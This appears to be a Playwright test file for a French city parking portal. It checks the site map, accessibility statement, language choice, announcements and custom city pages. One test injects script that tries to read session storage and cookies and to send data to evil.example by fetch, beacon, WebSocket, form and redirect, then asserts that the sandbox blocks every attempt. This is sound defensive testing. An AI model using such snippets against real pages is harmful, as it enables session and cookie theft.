import { expectAccessible } from '../accessible.ts'
import { addresses, expect, headingOf, type Page, test } from '../portal.ts'
import { type ShownRoute, shownRelease } from '../shown-release.ts'
import { configure, giveCityPage } from './city-content.ts'
import { main } from './screen.ts'

/** Every screen with its own address in the release; the root address shows one of them. */
async function addressesOf(page: Page, portal: string): Promise<readonly ShownRoute[]> {
  const { remotes } = await shownRelease(page.request, portal)
  return Object.values(remotes)
    .flatMap(({ routes }) => routes)
    .filter(({ pattern }) => pattern !== '/' && !pattern.includes(':'))
}

test('the site map names every screen of every part, and each of them opens', async ({ page, portal }) => {
  test.setTimeout(90_000)
  const routes = await addressesOf(page, portal)
  await page.goto(`${portal}/legal`)
  await page.getByRole('contentinfo').getByRole('link', { name: 'Plan du site' }).click()
  await expect(headingOf(page)).toHaveText('Plan du site')
  const hrefs = await main(page)
    .getByRole('link')
    .evaluateAll(links => links.map(link => link.getAttribute('href') ?? ''))
  expect(hrefs).toEqual(expect.arrayContaining(routes.map(({ pattern }) => pattern)))
  expect(new Set(hrefs).size).toBe(hrefs.length)
  for (const href of ['/', ...hrefs]) {
    await page.goto(`${portal}${href}`)
    await expect(headingOf(page)).not.toHaveText('Page introuvable')
  }
})

test('the accessibility statement tells state, rate, gaps, contact and remedies from the dated grid', async ({
  page,
  portal,
}) => {
  await page.goto(`${portal}/legal`)
  const state = page.getByRole('contentinfo').getByRole('link', { name: /^Accessibilité/ })
  const said = (await state.textContent()) ?? ''
  await state.click()
  await expect(headingOf(page)).toHaveText(said)
  for (const name of [
    'État de conformité',
    'Résultats des tests',
    'Contenus non accessibles',
    'Établissement de cette déclaration',
    'Retour d’information et contact',
    'Voies de recours',
  ])
    await expect(main(page).getByRole('heading', { name })).toBeVisible()
  await expect(main(page)).toContainText(/établit que \d+\s% des critères applicables sont respectés/)
  await expect(
    main(page)
      .getByRole('link', { name: /Défenseur des droits/ })
      .first(),
  ).toBeVisible()
  await main(page).getByText('Grille des 106 critères').click()
  await expect(main(page).getByRole('table').getByRole('row')).toHaveCount(107)
  await page.getByRole('button', { name: 'English' }).click()
  await expect(headingOf(page)).toHaveText(/^Accessibility: /)
  await expectAccessible(page, 'the accessibility statement')
})

test('a city’s own accessibility statement takes the place of ours', async ({ page, portal }) => {
  const html = '<h2>Déclaration de Valmont</h2><p>Audit du 3 mars.</p>'
  await configure(page, {
    legalPages: {
      legal: null,
      privacy: null,
      cgu: null,
      support: null,
      accessibility: { fr: html, en: html },
    },
  })
  await page.goto(`${portal}/accessibility`)
  await expect(main(page).getByRole('heading', { name: 'Déclaration de Valmont' })).toBeVisible()
  await expect(
    page.getByRole('contentinfo').getByRole('link', { name: 'Accessibilité', exact: true }),
  ).toBeVisible()
  await page.goto(`${portal}/cgu`)
  await expect(main(page)).toContainText('Valmont')
  await expect(main(page).getByRole('paragraph')).not.toHaveCount(0)
})

test('a browser is spoken to in its own language, unless another was chosen before', async ({ browser }) => {
  for (const [wish, stored, spoken] of [
    ['en-GB', null, 'en'],
    ['en-GB', 'fr', 'fr'],
  ] as const) {
    const context = await browser.newContext({ locale: wish })
    if (stored) await context.addInitScript(lang => localStorage.setItem('parvis.lang', lang), stored)
    const page = await context.newPage()
    await page.goto(`${addresses().portals.valmont}/site-map`)
    await expect(headingOf(page)).toHaveText(spoken === 'en' ? 'Site map' : 'Plan du site')
    await expect(page.locator('html')).toHaveAttribute('lang', spoken)
    await context.close()
  }
})

test('what the city announces is read on every page, in both languages', async ({ page, portal }) => {
  const text = { fr: 'Travaux place du Marché.', en: 'Works on place du Marché.' }
  await configure(page, { publicAnnouncement: { level: 'warning', text } })
  await page.goto(`${portal}/fps`)
  await expect(page.getByRole('complementary', { name: 'Annonce de la ville' })).toContainText(text.fr)
  await page.getByRole('button', { name: 'English' }).click()
  await expect(page.getByRole('complementary', { name: /announcement/i })).toContainText(text.en)
})

test('a city’s page greets below the way in, with a style that holds for it alone', async ({
  page,
  portal,
}) => {
  await configure(page, {
    customPageConfiguration: {
      headerTitle: 'Stationner à Valmont',
      content: '<p class="x">Bienvenue à <a href="/fps">Valmont</a>.</p><p class="y">Deux</p>',
      style: '.x{color:rgb(1,2,3)} h1{display:none} .y{position:fixed;inset:0;background:red}',
      script: '',
    },
  })
  await page.goto(`${portal}/`)
  const region = page.getByRole('region', { name: 'Stationner à Valmont' })
  await expect(region.getByText('Bienvenue à')).toBeVisible()
  await expect(headingOf(page)).toBeVisible()
  await expect(region.locator('.x')).toHaveCSS('color', 'rgb(1, 2, 3)')
  // Overlaying content stays in its place: signing in is still clickable.
  await page.getByRole('main').getByRole('button').first().click({ trial: true })
})

test('a city’s page waits for the way in above it, so that nothing moves it afterwards', async ({
  page,
  portal,
}) => {
  let letIn = () => {}
  const held = new Promise<void>(resolve => {
    letIn = resolve
  })
  await page.route(`${addresses().origins.account}/**`, async route => {
    await held
    await route.continue()
  })
  await configure(page, {
    customPageConfiguration: { headerTitle: 'Notre page', content: '<p>Deux</p>', style: '', script: '' },
  })
  await page.goto(`${portal}/`, { waitUntil: 'commit' })
  const region = page.getByRole('region', { name: 'Notre page', includeHidden: true })
  await expect(region).toBeAttached()
  await expect(region).toBeHidden()
  letIn()
  await expect(headingOf(page)).toBeVisible()
  await expect(region).toBeVisible()
})

test.describe('a city’s page with a script', () => {
  // The console reports what the policy blocks: this is the proof.
  test.use({ expectedComplaints: /./ })

  test('runs it without an origin: it reaches neither session, storage, portal nor network', async ({
    page,
    portal,
  }) => {
    const evil: string[] = []
    await page.route('**://evil.example/**', route => {
      evil.push(route.request().url())
      return route.abort()
    })
    const attempts: Record<string, string> = {
      storage: 'sessionStorage.getItem("parvis.session")',
      local: 'localStorage.length',
      cookie: 'document.cookie',
      parent: 'parent.document.title',
      top: 'top.location="https://evil.example/top"',
      popup: 'if(!window.open("https://evil.example/popup"))throw 1',
      database: 'indexedDB.open("x")',
      code: 'new Function("return 1")()',
    }
    const quiet = [
      'fetch("https://evil.example/fetch").catch(()=>{})',
      'fetch("/api/config").then(()=>done.push("api")).catch(()=>{})',
      'new Image().src="https://evil.example/image"',
      'try{new WebSocket("wss://evil.example/socket")}catch{}',
      'navigator.sendBeacon&&navigator.sendBeacon("https://evil.example/beacon")',
      'const f=document.createElement("form");f.action="https://evil.example/form";f.method="post";document.body.append(f);try{f.submit()}catch{}',
      'const l=document.createElement("link");l.rel="dns-prefetch";l.href="https://evil.example";document.head.append(l)',
    ]
    const script = [
      'const done=[]',
      ...Object.entries(attempts).map(([name, code]) => `try{${code};done.push('${name}')}catch{}`),
      ...quiet,
      "setTimeout(()=>{document.getElementById('city-page').insertAdjacentHTML('beforeend','<p>Fait : '+(done.join(' ')||'rien')+'</p>')},600)",
    ].join(';\n')
    const custom = {
      headerTitle: 'Notre page',
      content: '<p><a href="/fps">Vers les FPS</a></p>',
      style: '',
      script,
    }
    await giveCityPage(page, custom)
    await page.goto(`${portal}/`)
    const frame = page.frameLocator('iframe[title="Notre page"]')
    // Scroll to the frame: an off-screen frame does not render, so its content never becomes stable.
    await page.locator('iframe[title="Notre page"]').scrollIntoViewIfNeeded()
    await expect(frame.getByText('Fait : rien')).toBeVisible()
    // Self-navigation empties the frame, so it comes last.
    await frame.locator('body').evaluate(() => {
      const meta = document.createElement('meta')
      meta.httpEquiv = 'refresh'
      meta.content = '0;url=https://evil.example/refresh'
      document.head.append(meta)
      window.location.href = 'https://evil.example/self'
    })
    await page.waitForTimeout(1_000)
    expect(evil).toEqual([])
    await expect(page).toHaveURL(`${portal}/`)
  })

  test('lets its links lead through the portal', async ({ page, portal }) => {
    const custom = {
      headerTitle: 'Notre page',
      content: '<p><a href="/fps">Vers les FPS</a></p>',
      style: '',
      script: '0',
    }
    await giveCityPage(page, custom)
    await page.goto(`${portal}/`)
    await page.locator('iframe[title="Notre page"]').scrollIntoViewIfNeeded()
    await page.frameLocator('iframe[title="Notre page"]').getByText('Vers les FPS').click()
    await expect(page).toHaveURL(`${portal}/fps`)
  })
})
